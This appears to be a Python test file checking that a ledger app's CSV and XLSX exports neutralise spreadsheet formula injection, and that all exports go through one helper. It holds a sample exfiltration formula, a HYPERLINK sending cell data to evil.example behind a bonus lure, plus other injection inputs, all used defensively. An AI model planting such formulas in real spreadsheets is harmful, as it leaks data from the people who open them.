"""Spreadsheet exports: a text cell a partner or an official typed never becomes a live formula in someone else's
spreadsheet, and no export gets past the one helper that sees to it (ledger/core/exports.py)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from ledger.core.base import utcnow
from tests.api.conftest import World, bearer, client_token, password_token, villager_token
from tests.api.redeeming import give_points, offer, redeem

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("ledger", "scoring", "redemption", "api")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'


def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() -> None:
    from ledger.core import exports

    table = pd.DataFrame(
        {
            "text": [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "大米", "a=b", ""],
            "points": [-5, 3, 0, 1, 2, 3, 4, 5, 6],
        }
    )
    read = pd.read_csv(io.BytesIO(exports.csv_bytes(table)), encoding="utf-8-sig", keep_default_na=False)
    assert list(read["text"]) == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\t=1", "'\r=1", "大米", "a=b", ""]
    assert list(read["points"]) == [-5, 3, 0, 1, 2, 3, 4, 5, 6]

    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"t": table}))).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells if row[0].value is not None)
    assert cells[0][0].value == "'" + FORMULA
    assert [row[1].value for row in cells] == [-5, 3, 0, 1, 2, 3, 4, 5, 6]  # a deduction of -5 is a number
    assert all(row[1].data_type == "n" for row in cells)


def test_an_offer_title_that_is_a_formula_is_plain_text_in_the_settlement_csv_and_xlsx(
    client: TestClient, engine: Engine, world: World
) -> None:
    give_points(engine, world.household_a1, 500)
    made = offer(client, "mart", title=FORMULA)
    voucher = redeem(client, villager_token(client, world.villager_phone), made["id"]).json()
    cashier = bearer(client_token(client, "mart"))
    used = client.post(f"/api/v1/vouchers/{voucher['code']}/consume", json={"pin": voucher["pin"]}, headers=cashier)
    assert used.status_code == 200, used.text
    month = utcnow().astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")
    admin = bearer(password_token(client, "admin"))
    query = {"month": month, "partner_id": made["partner_id"]}

    book = client.get("/api/v1/settlement", params={**query, "format": "xlsx", "lang": "en"}, headers=admin)
    assert book.status_code == 200, book.text
    uses = openpyxl.load_workbook(io.BytesIO(book.content))["Uses of vouchers"]
    header = [cell.value for cell in uses[1]]
    title = uses.cell(row=2, column=header.index("Offer") + 1)
    assert (title.data_type, title.value) == ("s", "'" + FORMULA)  # shown as typed, never run
    points = uses.cell(row=2, column=header.index("Points") + 1)
    assert (points.data_type, points.value) == ("n", voucher["points"])

    text = client.get("/api/v1/settlement", params={**query, "format": "csv", "lang": "en"}, headers=admin)
    rows = list(csv.DictReader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert rows[0]["Offer"] == "'" + FORMULA


def _writes_a_spreadsheet(tree: ast.AST) -> list[str]:
    """Where a module writes CSV or XLSX itself: pandas' to_csv/to_excel on a table (not a call of another module's
    function of that name), ExcelWriter, the csv module, openpyxl or xlsxwriter."""
    modules = {
        alias.asname or alias.name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import | ast.ImportFrom)
        for alias in node.names
    }
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
            found += [
                f"line {node.lineno}: imports {n}"
                for n in names
                if n.split(".")[0] in ("csv", "openpyxl", "xlsxwriter")
            ]
        elif isinstance(node, ast.Attribute):
            module_function = isinstance(node.value, ast.Name) and node.value.id in modules - {"pd", "pandas"}
            if node.attr in ("to_csv", "to_excel") and not module_function:
                found.append(f"line {node.lineno}: .{node.attr}")
            if node.attr == "ExcelWriter":
                found.append(f"line {node.lineno}: ExcelWriter")
    return found


def test_every_export_goes_through_the_one_helper() -> None:
    helper = ROOT / "ledger" / "core" / "exports.py"
    bypassing = {}
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if path != helper and (found := _writes_a_spreadsheet(ast.parse(path.read_text(encoding="utf-8")))):
                bypassing[str(path.relative_to(ROOT))] = found
    assert bypassing == {}
    assert _writes_a_spreadsheet(ast.parse(helper.read_text(encoding="utf-8")))  # the scan does see a writer


def test_the_scan_sees_a_table_written_directly() -> None:
    direct = ast.parse(
        "import pandas as pd\nfrom ledger import figures\n"
        "figures.to_csv(r)\nframe.to_csv(p)\npd.DataFrame(x).to_excel(w)\npd.ExcelWriter(b)\n"
    )
    assert _writes_a_spreadsheet(direct) == ["line 4: .to_csv", "line 5: .to_excel", "line 6: ExcelWriter"]
